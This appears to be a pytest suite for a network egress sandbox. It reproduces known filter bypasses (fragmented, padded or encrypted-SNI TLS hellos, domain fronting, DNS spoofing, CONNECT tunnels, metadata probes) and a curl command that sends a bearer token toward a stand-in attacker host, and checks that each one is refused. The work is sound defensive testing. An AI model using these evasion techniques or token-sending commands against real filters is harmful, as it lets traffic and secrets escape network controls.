# SPDX-License-Identifier: Apache-2.0
"""What went wrong elsewhere, provoked here: the lessons and weak points of tests/PARITY.md.

Each test does with a real client what once got past a filter, or once looked
like a hang. Where another file has the test already, the table names that one.
"""

import json
import socket
import struct

import pytest
from conftest import EXAMPLE, SLACK
from test_bypass import API, EVIL, NO_WEB, hello, raw, refused, request
from test_secrets import ALL, secret

import world

OPEN = {"policy": {"default_egress": "allow"}}
MODES = pytest.mark.parametrize("mode", ["virtual", "real"])
FAMILIES = pytest.mark.parametrize("address", [world.v4(EVIL), world.v6(EVIL)], ids=["4", "6"])


def real(weir, policy=EXAMPLE, **kw):
    return {"policy": policy, "flags": ["--dns-answers", "real"], **kw}


def reached(lab, host):
    """What a host of the lab saw of us."""
    return [e for e in lab.seen() if e.get("server") == host and e["kind"] != "dns"]


def refused_soon(said):
    """An error at once: neither silence nor an open door."""
    return said["result"] not in ("connected", "ok", "timeout") and said["seconds"] < SLACK


# ---- first flights made by hand -------------------------------------------------------------


def grown(flight, *extensions):
    """The hello with more extensions in front, as one handshake message without its records."""
    body = flight.encode("latin-1")[9:]
    at = 34  # behind version and random
    at += 1 + body[at]
    at += 2 + struct.unpack(">H", body[at:at + 2])[0]
    at += 1 + body[at]
    more = b"".join(struct.pack(">HH", kind, len(b)) + b for kind, b in extensions)
    size = struct.unpack(">H", body[at:at + 2])[0] + len(more)
    body = body[:at] + struct.pack(">H", size) + more + body[at + 2:]
    return b"\x01" + struct.pack(">I", len(body))[1:] + body


def records(message, *sizes):
    """A handshake message in records of these sizes, and what is left in one as large as may be."""
    out = []
    for n in [*sizes, *[1 << 14] * (len(message) // (1 << 14) + 1)]:
        if message[:n]:
            out.append((b"\x16\x03\x01" + struct.pack(">H", len(message[:n])) + message[:n]).decode(
                "latin-1"))
        message = message[n:]
    return out


FILLER, ECH = 0x4a4a, 0xfe0d  # a number reserved for what means nothing (RFC 8701)
# outer, HKDF-SHA256 with AES-128-GCM, a key and a payload: what nobody but the server can read.
SEALED = (ECH, b"\0\0\1\0\1\7" + struct.pack(">H", 32) + bytes(range(32)) +
          struct.pack(">H", 200) + bytes(200))


def split(name):
    """Two records, cut in the middle of whatever stands there."""
    return records(grown(hello(name)), 70)


def crumbs(name):
    """A record for each 7 bytes."""
    m = grown(hello(name))
    return records(m, *[7] * (len(m) // 7))


def padded(name):
    """The name behind many kilobytes, as no client needs them."""
    return records(grown(hello(name), (FILLER, b"x" * 12000)), 4000, 4000)


def overlong(name):
    """More than the largest record holds: past what is kept, and refused for that."""
    return records(grown(hello(name), (FILLER, b"x" * 20000)))


def endless(name):
    """All that a hello can be."""
    return records(grown(hello(name), (FILLER, b"x" * 60000)))


def nameless(_):
    return [hello(None)]


def encrypted(_):
    """The name outside is another's: the one that counts is sealed."""
    return records(grown(hello(API), SEALED))


# ---- lessons ----------------------------------------------------------------------------------


# Parity: p1.5-sni.
@MODES
@FAMILIES
def test_lesson_01_lesson_03_a_name_is_bound_to_its_answers(weir, lab, mode, address):
    """The allowed name shown to an address that it does not have, asked for or not."""
    for before in ("", "dig +short %s >/dev/null; " % API):
        r = weir.sh(before + "curl -skS -g -m 5 --resolve '%s:443:[%s]' https://%s/; "
                    "curl -sS -g -m 5 --resolve '%s:80:[%s]' http://%s/" % (
                        (API, address, API) * 2), flags=["--dns-answers", mode])
        assert r.rc and not r.out, r
        assert len(r.find("flow", dst=address, verdict="deny")) == 2, r
    assert not reached(lab, EVIL), lab.seen()


# Parity: p1.5-refusal-seen, n13.
def test_lesson_02_denied_as_early_as_it_is_certain(weir, lab):
    """Virtual: the address says the name, so the first packet is refused. Real: after the hello."""
    r = weir.guest("connect", EVIL, 443, 5, policy=NO_WEB)
    assert r.json["result"] == "ECONNREFUSED" and r.json["seconds"] < SLACK, r
    assert r.find("flow", verdict="deny")[0]["rule"] == "no-web", r
    r = raw(weir, EVIL, 443, hello(EVIL), **real(weir, NO_WEB))
    assert r.json["end"] == "ECONNRESET" and r.json["text"] == "", r
    assert refused(weir, r)["rule"] == "no-web" and not reached(lab, EVIL), r


@pytest.mark.parametrize("version", ["1.1", "2"])
def test_lesson_04_fronting_is_seen_once_decrypted(weir, lab, version):
    """The TLS name of an allowed host, the request for another behind it."""
    for policy in (EXAMPLE, OPEN):
        r = weir.sh("curl -sS -o /dev/null -w '%%{http_code}' --http%s -H 'Host: %s' "
                    "https://%s/" % (version, EVIL, API), policy=policy, intercept=True)
        assert r.out in ("403", "421"), r
        assert refused(weir, r)["host"] == EVIL, r
    assert not lab.seen("http"), lab.seen("http")


# Parity: p1.5-sni.
@MODES
@FAMILIES
def test_lesson_05_a_deny_by_name_holds_for_a_literal_address(weir, lab, mode, address):
    """No query, no answer: the name is in the hello, or in the request, alone."""
    for port, first in ((443, hello), (80, request)):
        r = raw(weir, address, port, first(EVIL), policy=NO_WEB, flags=["--dns-answers", mode])
        assert r.json["text"] == "" and refused(weir, r)["rule"] == "no-web", r
    assert not reached(lab, EVIL), lab.seen()
    # Not because everything is: another name at another address passes.
    r = raw(weir, world.v4(API), 80, request(API), policy=NO_WEB, flags=["--dns-answers", mode])
    assert "200 OK" in r.json["text"], r


WRONG = {
    "destination": "--connect-to %s:443:%s:443 https://%s/" % (API, EVIL, API),
    "no answer": "--resolve %s:443:%s https://%s/" % (API, world.v4(EVIL), API),
    "server name": "--connect-to %s:443:%s:443 https://%s/" % (EVIL, API, EVIL),
    "host": "--http1.1 -H 'Host: %s' https://%s/" % (EVIL, API),
    "authority": "--http2 -H 'Host: %s' https://%s/" % (EVIL, API),
    "scheme": "http://%s/" % API,
}


@pytest.mark.parametrize("wrong", [None, *WRONG])
def test_lesson_06_a_secret_needs_all_of_it_to_agree(weir, lab, wrong):
    """Destination, answer, server name, Host and authority: one that differs and it stays here."""
    r = weir.sh("curl -sSk -m 10 -H \"Authorization: Bearer $LAB_TOKEN\" %s" % (
        WRONG.get(wrong, "https://%s/" % API)), policy=OPEN, flags=secret(ALL))
    assert (lab.token in lab.seen_text()) == (wrong is None), r
    assert lab.token not in r.out, r


def test_lesson_07_libc_gives_up_at_once(weir, lab):
    """No second try, no other server, no search list: the name does not exist."""
    code = ("import socket, time, json\nt = time.time()\ntry: socket.getaddrinfo('%s', 80)\n"
            "except socket.gaierror as e: print(json.dumps([e.errno == socket.EAI_NONAME, "
            "time.time() - t]))" % EVIL)
    r = weir.run("/usr/bin/python3", "-c", code)
    assert r.json[0] and r.json[1] < SLACK, r
    assert len(r.find("dns", name=EVIL)) <= 2 and not lab.asked("evil"), r


def test_lesson_08_one_family_is_no_failure(weir):
    """Real answers of a host of one family: the other is empty, and clients take what there is."""
    r = weir.sh("for n in v4only v6only; do curl -sS -m 5 http://$n.example.com/ | head -c 12; "
                "echo; getent ahosts $n.example.com | wc -l; done; "
                "curl -6 -sS -m 5 http://v4only.example.com/; echo $?", **real(weir))
    out = r.out.split()
    assert out[0] == out[2] == '{"authorized' and int(out[1]) and int(out[3]), r
    assert out[4] in "67" and r.seconds < 10 * SLACK, r  # no such address, no such host
    assert {e["verdict"] for e in r.find("dns")} == {"allow"}, r


# Parity: p1.5-deferred.
@MODES
def test_lesson_12_one_allowed_name_opens_no_other_address(weir, lab, mode):
    """A rule by name is no reason to accept a connection that no answer speaks for."""
    targets = ["%s/%d/5" % (a, port) for host in (EVIL, "files.example.com", "echo.example.com")
               for a in (world.v4(host), world.v6(host)) for port in (80, 443, 7, 31337)]
    r = weir.guest("connects", *targets, policy={"policy": {"default_egress": "deny", "rules": [
        {"action": "allow", "destination": API}]}}, flags=["--dns-answers", mode])
    assert {v["result"] for v in r.json.values()} == {"ECONNREFUSED"}, r
    assert all(refused_soon(v) for v in r.json.values()), r
    assert not lab.seen(), lab.seen()


# Parity: p1.3-none.
@pytest.mark.parametrize("how", [["--no-net"], ["--policy", "none"], ["--net", "none"]])
def test_lesson_13_no_network_is_none(weir, lab, how):
    """Names, both families, TCP, UDP, ping, to the world, to the gateway and to the host."""
    hosts = [world.v4(API), world.v6(API), "192.0.0.1", world.PRIVATE4, world.METADATA4]
    script = "; ".join(
        ["getent hosts %s" % API, "dig +short %s; dig +tcp +short @%s %s" % (API, world.DNS4, API)] +
        ["curl -sS -g -m 3 http://%s/" % ("[%s]" % h if ":" in h else h) for h in hosts] +
        ["ping -n -c 1 -W 1 %s >/dev/null && echo pinged" % h for h in (hosts[0], hosts[1])] +
        ["for p in 7 443; do echo x >/dev/udp/%s/$p; done" % world.v4("echo.example.com"),
         "curl -sS -m 3 http://host.weir.internal/"])
    r = weir.run("bash", "-c", script, policy=None, flags=how)
    assert r.out.strip() == "" and not lab.seen(), (r, lab.seen())
    assert not [e for e in r.events if e.get("verdict") == "allow"], r


# Parity: p1.5-refusal-seen.
@MODES
def test_lesson_14_weak_8_every_refusal_is_an_answer_on_the_record(weir, lab, mode):
    """TCP, UDP, ping and names, both families: an error at once, an event, and its reason."""
    flags = ["--dns-answers", mode]
    for a in (world.v4(EVIL), world.v6(EVIL), world.PRIVATE4, world.PRIVATE6):
        for command in ("connect", a, 443, 5), ("udp", a, 7, "x", 5):
            r = weir.guest(*command, flags=flags)
            assert refused_soon(r.json), r
            event = refused(weir, r)
            assert event["dst"] == a and event["rule"] == "default", event
        r = weir.sh("ping -n -c 1 -W 5 %s" % a, flags=flags)
        assert r.rc == 1 and r.seconds < 4 * SLACK, r
        assert "filtered" in r.out.lower() or "prohibited" in r.out.lower(), r
        assert refused(weir, r)["dst"] == a, r
    r = weir.sh("dig %s" % EVIL, flags=flags)
    event = r.find("dns", verdict="deny")[0]
    assert "EDE: 15" in r.out and event["denial"] in r.out, r
    assert weir.call("why", "--audit", r.audit_path, event["denial"]).returncode == 0, r
    assert not reached(lab, EVIL), lab.seen()


@pytest.mark.parametrize("family", [4, 6])
def test_lesson_17_fragments_go_both_ways(weir, family):
    """Datagrams above every path's size, and large answers of the resolver, over either family."""
    r = weir.guest("udpsize", "echo%d.example.com" % family, 7, 1200, 1473, 4000, 60000)
    assert all(v is True for v in r.json.values()), r
    server = "2001:4860:4860::8888" if family == 6 else "8.8.8.8"
    r = weir.sh("dig @%s +bufsize=1232 +ignore many.example.com | grep -c 93.184.217; "
                "dig @%s +noedns more.example.com | grep -c 93.184.217" % (server, server), **real(weir))
    assert [int(n) for n in r.out.split()] == [32, 32], r


# Parity: p1.8-gateway.
def test_lesson_41_a_denied_gateway_does_not_answer(weir):
    """Echo to the gateway is a flow like another: its answer is the policy's."""
    gateway = "$(ip -4 route show default | cut -d' ' -f3)"
    r = weir.sh("ping -n -c 1 -W 3 %s" % gateway, policy="allow_all")
    assert r.rc == 0 and " 0% packet loss" in r.out, r
    r = weir.sh("ping -n -c 1 -W 3 %s" % gateway, policy="public_only")
    assert r.rc == 1 and "filtered" in r.out.lower() and r.seconds < 3 * SLACK, r
    assert refused(weir, r)["proto"] == "icmpv4", r


def asked(port, kind, seconds):
    """What a published port answers; a datagram may be lost by right, so there are several."""
    with socket.socket(socket.AF_INET, kind) as s:
        s.settimeout(0.3 if kind == socket.SOCK_DGRAM else seconds)
        for _ in range(4):
            try:
                s.connect(("127.0.0.1", port))
                s.sendall(b"ping")
                return s.recv(100)
            except socket.timeout:
                continue
            except OSError:
                break
        return b""


# Parity: n15.
@pytest.mark.parametrize("proto", ["tcp", "udp"])
@pytest.mark.parametrize("rule,opens", [
    ("allow:ingress@127.0.0.1:{}:8080", True), ("allow:ingress@127.0.0.1:{}:8081", False),
    ("allow:ingress@10.0.0.0/8:{}:8080", False), ("allow@127.0.0.1:{}:8080", False)])
def test_p1_7_published_ports_judge_the_peer(weir, lab, proto, rule, opens):
    """Peer address, the port inside and the protocol decide; a rule outwards says nothing of it."""
    kind = socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM
    with socket.socket(socket.AF_INET, kind) as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    p = weir.start("/usr/bin/python3", "-B", lab.guest, "serve", "8080", "inside:", proto,
                   flags=["--publish", "%d:8080%s" % (port, "/udp" if proto == "udp" else ""),
                          "--net-default-ingress", "deny", "--net-rule", rule.format(proto)])
    try:
        assert p.stdout.readline() == b"ready\n"
        assert asked(port, kind, 10 if opens else 1) == (b"inside:ping" if opens else b"")
    finally:
        p.terminate()
        p.wait(10 * SLACK)


# ---- weak points ------------------------------------------------------------------------------


# Parity: p1.5-first-flight.
@pytest.mark.parametrize("mode", ["virtual", "real"])
@pytest.mark.parametrize("shape", [split, crumbs, padded, overlong, endless, nameless,
                                   encrypted],
                         ids=lambda f: f.__name__)
def test_weak_1_a_hidden_name_escapes_no_deny(weir, lab, shape, mode):
    """By address and by name: what cannot be read is judged as if it were the denied one."""
    for host in (world.v4(EVIL), EVIL):
        r = raw(weir, host, 443, *shape(EVIL), policy=NO_WEB, flags=["--dns-answers", mode])
        assert "refused" in r.err or r.json["text"] == "", r
        event = refused(weir, r)
        assert event.get("rule") == "no-web" or (
            shape in (overlong, endless) and "cannot be read" in event["detail"]), event
    assert not reached(lab, EVIL), lab.seen()


@pytest.mark.parametrize("shape", [split, crumbs, padded], ids=lambda f: f.__name__)
def test_weak_1_odd_but_readable_passes(weir, lab, shape):
    """The same shapes with a name that nothing denies: read, and let through unchanged."""
    r = weir.guest("raw", world.v4(API), 443, "-", json.dumps(shape(API)), 1, 0.01, policy=NO_WEB)
    assert r.json["text"].startswith("\x16\x03"), r  # the server's own hello
    assert lab.seen("tls", sni=API), lab.seen()


def test_weak_1_replays_say_the_same(weir):
    """An encrypted name: the record and the capture of the run are judged as the run was."""
    capture = weir.path("c.pcapng")
    policy = weir.file("p.json", NO_WEB)
    r = raw(weir, world.v4(EVIL), 443, *encrypted(EVIL), policy=policy, flags=["--capture", capture])
    assert "encrypted" in refused(weir, r)["detail"], r
    p = weir.call("policy", "replay", policy, r.audit_path)
    assert p.returncode == 0 and "1 as before" in p.stdout, p
    p = weir.call("policy", "replay", policy, capture, "--all")
    assert p.returncode == 1 and "no-web" in p.stdout, p


def test_weak_1_what_browsers_send_passes(weir, lab):
    """Random bytes where an encrypted hello would be, to an address asked for by the name in front."""
    r = weir.guest("raw", API, 443, "-", json.dumps(encrypted(API)), 1, **real(weir, NO_WEB))
    assert r.json["text"].startswith("\x16\x03") and lab.seen("tls", sni=API), r


# Parity: p1.5-first-flight.
@pytest.mark.slow
@pytest.mark.parametrize("wait", [6, 12])
def test_weak_1_waiting_escapes_no_deny(weir, lab, wait):
    """Half a hello, silence, the other half: kept until it is whole, or refused as unreadable."""
    r = weir.guest("raw", world.v4(EVIL), 443, "-", json.dumps(split(EVIL)), 20, wait,
                   policy=NO_WEB)
    assert r.json["text"] == "" and refused(weir, r)["rule"] == "no-web", r
    assert not reached(lab, EVIL), lab.seen()


SHARED = "sub.api.example.com"  # at api's address
ONE = {"policy": {"default_egress": "deny", "rules": [
    {"action": "allow", "destination": API}]}}


@MODES
def test_weak_2_shared_address_other_name(weir, lab, mode):
    """The address of an allowed name, asked for, then dialled for the neighbour it shares it with."""
    address = world.v4(API)
    script = ("dig +short %s >/dev/null; " % API +
              "curl -sS -m 5 --resolve {0}:80:{1} http://{0}/; "
              "curl -skS -m 5 --resolve {0}:443:{1} https://{0}/; "
              "curl -sS -m 5 -H 'Host: {0}' http://{2}/ | grep authorized".format(
                  SHARED, address, API))
    r = weir.sh(script, policy=ONE, flags=["--dns-answers", mode])
    assert "authorized" not in r.out, r
    assert not lab.seen("http") and not lab.seen("tls"), lab.seen()
    assert len([e for k in ("flow", "http", "tls") for e in r.find(k, verdict="deny")]) >= 3, r


# Parity: p1.5-cache-only.
@MODES
@pytest.mark.parametrize("proto", ["ssh", "udp"])
def test_weak_2_protocols_without_a_name(weir, lab, mode, proto):
    """Virtual: the address is one name's. Real: a pin is proof of nothing where names are strict."""
    host, port = ("ssh.example.com", 22) if proto == "ssh" else ("echo.example.com", world.ECHO)
    policy = {"policy": {"default_egress": "deny", "rules": [
        {"action": "allow", "destination": host}]}}
    flags = ["--dns-answers", mode] + (["--net-strict"] if mode == "real" else [])
    client = "pieces = [b'SSH-2.0-x\\r\\n']; kind = socket.SOCK_STREAM" if proto == "ssh" else (
        "pieces = [b'x']; kind = socket.SOCK_DGRAM")
    code = ("import socket; {0}\nsocket.getaddrinfo('{1}', {2})\n"
            "s = socket.socket(socket.AF_INET, kind); s.settimeout(5)\n"
            "try:\n s.connect(('{3}', {2})); s.send(pieces[0]); print(s.recv(100))\n"
            "except OSError as e: print('refused', e)\n".format(client, host, port, world.v4(host)))
    r = weir.run("/usr/bin/python3", "-c", code, policy=policy, flags=flags)
    assert r.out.startswith(("refused", "b''")) and "timed out" not in r.out, r
    assert r.find("flow", dst=world.v4(host), verdict="deny"), r
    assert not reached(lab, "udp"), lab.seen()


# Parity: n28.
@pytest.mark.parametrize("intercept", [False, True])
@pytest.mark.parametrize("proxy", ["%s:80" % API, "echo.example.com:7"])
@pytest.mark.parametrize("target", [EVIL, world.METADATA4])
def test_weak_3_connect_opens_no_tunnel(weir, lab, intercept, proxy, target):
    """Through an allowed host that serves as proxy, on whatever port it listens."""
    r = weir.sh("curl -sS -m 5 -p -x http://%s https://%s/" % (proxy, target), intercept=intercept)
    assert r.rc not in (0, 28), r
    assert [e for k in ("http", "flow") for e in r.find(k, verdict="deny")], r
    assert "CONNECT" not in lab.seen_text() and target not in lab.asked(), lab.seen()


# Parity: p1.5-no-reverse, d3.6-own-resolver.
@MODES
def test_weak_4_a_resolver_of_the_guests_own_makes_no_names(weir, lab, mode):
    """An answer from elsewhere, byte for byte as a resolver would send it, binds nothing."""
    policy = {"policy": {"default_egress": "deny", "rules": [
        {"action": "allow", "destination": API},
        {"action": "allow", "destination": world.v4("echo.example.com")}]}}
    code = ("import socket, dns.message, dns.rrset\n"
            "q = dns.message.make_query('{0}', 'A'); a = dns.message.make_response(q)\n"
            "a.answer.append(dns.rrset.from_text('{0}.', 300, 'IN', 'A', '{1}'))\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
            "s.sendto(a.to_wire(), ('{2}', {3}))\n"
            "print(dns.message.from_wire(s.recv(4096)).answer[0][0])\n").format(
                API, world.v4(EVIL), world.v4("echo.example.com"), world.ECHO)
    r = weir.run("bash", "-c", "/usr/bin/python3 -c \"$1\"; dig +short @%s %s >/dev/null; "
                 "curl -skS -m 5 --resolve %s:443:%s https://%s/" % (
                     world.FOREIGN_DNS, API, API, world.v4(EVIL), API), "bash", code,
                 policy=policy, flags=["--dns-answers", mode])
    assert r.out.strip() == world.v4(EVIL) and r.rc, r  # the answer came; the flow did not go
    assert r.find("flow", dst=world.v4(EVIL), verdict="deny"), r
    assert not reached(lab, EVIL) and not lab.seen("dns", server=world.FOREIGN_DNS), lab.seen()


# Parity: p1.4-7.
def test_weak_7_one_validator_for_every_entry(weir, lab):
    """A suffix that is a whole top-level domain, ICMP from outside: by whatever way they come."""
    for rule, token, says in (
            ({"action": "allow", "destination": "*.com"}, "allow@*.com", "top-level"),
            ({"action": "deny", "direction": "ingress", "destination": "any",
              "protocol": "icmpv4"}, "deny:ingress@any:icmpv4", "ICMP never arrives")):
        policy = {"default_egress": "deny", "rules": [rule]}
        flow = json.dumps(policy)  # JSON is YAML
        toml = "[[policy.rules]]\n" + "\n".join('%s = "%s"' % x for x in rule.items())
        ways = [["--policy", weir.file("p.json", {"policy": policy})],
                ["--policy", weir.file("p.yaml", "policy: %s\n" % flow)],
                ["--policy", weir.file("p.toml", toml)],
                ["--config", weir.file("c.json", {"policy": policy})],
                ["--policy-floor", weir.file("f.json", {"policy": policy})],
                ["--net-rule", token]]
        for flags in ways:
            r = weir.run("true", policy=None, flags=flags)
            assert r.rc == 125 and says in r.err, r
            if flags[0] == "--policy":
                p = weir.call("policy", "check", flags[1])
                assert p.returncode == 2 and says in p.stderr, p
    assert not lab.seen(), lab.seen()


CLOSED = {"policy": {"default_egress": "deny", "rules": [
    {"action": "allow", "destination": "closed.example.com"}]}}


def test_weak_9_what_is_closed_looks_closed(weir):
    """A scan behind a rule by name: upstream is dialled first, so what it refuses is refused."""
    r = weir.guest("portscan", "closed.example.com", 100, 160, policy=CLOSED)
    assert set(r.json) == {"ECONNREFUSED"}, r
    assert len(r.find("flow", verdict="fail", name="closed.example.com")) == 61, r
    r = weir.guest("connects", "closed.example.com/81/5", "closed.example.com/443/5",
                   **real(weir, OPEN))
    assert all(v["result"] == "ECONNREFUSED" and v["seconds"] < SLACK
               for v in r.json.values()), r


@pytest.mark.parametrize("port,first", [(443, hello), (80, request)])
def test_weak_9_what_is_closed_behind_a_hello(weir, port, first):
    """Real answers, a rule by name: the name has to be read first, and then the refusal shows."""
    r = raw(weir, "closed.example.com", port, first("closed.example.com"), **real(weir, CLOSED))
    assert r.json["end"] == "ECONNRESET" and r.json["text"] == "" and r.seconds < 3 * SLACK, r
    assert r.find("flow", verdict="fail"), r
